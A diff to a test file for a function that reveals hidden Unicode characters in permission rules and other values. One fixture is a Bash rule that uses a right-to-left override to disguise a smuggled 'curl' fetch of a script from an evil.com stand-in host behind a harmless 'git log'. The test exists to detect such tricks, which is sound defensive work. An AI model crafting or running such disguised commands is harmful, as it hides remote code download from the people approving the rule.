@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { hiddenKinds, revealHidden } from "./reveal";
+import { hiddenKinds, revealDeep, revealHidden } from "./reveal";
 
 describe("revealHidden", () => {
   it.each([
@@ -22,5 +22,26 @@ describe("revealHidden", () => {
     expect(revealHidden(input)).not.toMatch(
       /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200B-\u200D\u2060\uFEFF]/,
     );
+  });
+});
+
+describe("revealDeep (Rules page, Audit page, impact preview, clean-up diff)", () => {
+  it("reveals every string of a listed value, keys too, and says whether there were any", () => {
+    const entry = {
+      rule: "Bash(git log \u202e;hs.x/moc.live//:sptth lruc\u202c)",
+      usage: { count: 2 },
+      tags: ["a\u200bb"],
+    };
+    const { value, hidden } = revealDeep(entry);
+    expect(hidden).toBe(true);
+    expect(value).toEqual({
+      rule: "Bash(git log ⟨U+202E⟩;hs.x/moc.live//:sptth lruc⟨U+202C⟩)",
+      usage: { count: 2 },
+      tags: ["a⟨U+200B⟩b"],
+    });
+    expect(revealDeep({ ["k\u202e"]: 1 }).value).toEqual({ "k⟨U+202E⟩": 1 });
+    const plain = { rule: "Bash(npm test:*)", n: null };
+    expect(revealDeep(plain)).toEqual({ value: plain, hidden: false });
+    expect(revealDeep(plain).value).toBe(plain);
   });
 });
